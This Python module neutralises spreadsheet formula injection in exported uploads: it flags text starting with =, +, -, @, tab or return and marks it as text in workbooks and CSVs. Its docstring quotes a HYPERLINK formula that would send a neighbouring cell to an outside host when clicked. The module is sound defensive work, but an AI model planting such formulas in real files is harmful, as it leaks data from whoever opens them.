"""Text from uploads never becomes a formula in what analysts open. A cell or file name starting with «=»,
«+», «-» or «@» is a formula to Excel (and to LibreOffice and Google Sheets opening a CSV), e.g.
`=HYPERLINK("http://…?"&B2, "…")` would send the neighbouring cell away when clicked.

One rule for both writers: the workbook keeps the text exactly and marks the cell as text the way Excel
does when one types an apostrophe first (the `quotePrefix` cell style); the CSV, which has no styles,
gets the apostrophe itself, as OWASP's «CSV Injection» page advises, with every field quoted. JSONL,
Parquet and DuckDB keep the text as written: they are data, not spreadsheets.
"""

# OWASP: «=», «+», «-», «@», and the tab and carriage return that can hide one of them from a filter.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet read this text as a formula?"""
    return text.startswith(FORMULA_STARTS)


def keep_cells_text(cells) -> None:
    """openpyxl cells: a text stays text (openpyxl stores «=…» as a formula), and a formula-like one is marked
    the way Excel marks a typed apostrophe (the `quotePrefix` style), its value unchanged."""
    for cell in cells:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if is_formula_like(cell.value):
                cell.quotePrefix = True


def csv_safe(text: str) -> str:
    """The text for a CSV field: an apostrophe before a formula-like start (the CSV writer quotes it)."""
    return "'" + text if is_formula_like(text) else text
